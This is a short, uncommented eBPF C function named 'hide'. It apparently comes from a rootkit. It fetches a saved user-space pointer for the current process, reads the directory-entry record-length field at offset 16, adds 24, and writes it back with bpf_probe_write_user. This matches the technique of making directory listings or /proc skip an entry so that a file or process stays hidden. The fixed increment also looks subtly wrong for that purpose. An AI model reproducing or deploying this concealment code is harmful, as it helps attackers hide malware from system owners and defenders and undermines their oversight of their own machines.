int hide(void)
{
    u16 buf;
    u64 key;
    __u64 *value;

    key = bpf_get_current_pid_tgid();
    value = bpf_map_lookup_elem(&saved, &key);
    buf = 0;
    if (!value) {
        return 0;
    }
    bpf_probe_read_user(&buf, 2, (void *)(*value + 16));
    buf = (u32)buf + 24;
    bpf_probe_write_user((void *)(*value + 16), &buf, 2);
    return 0;
}
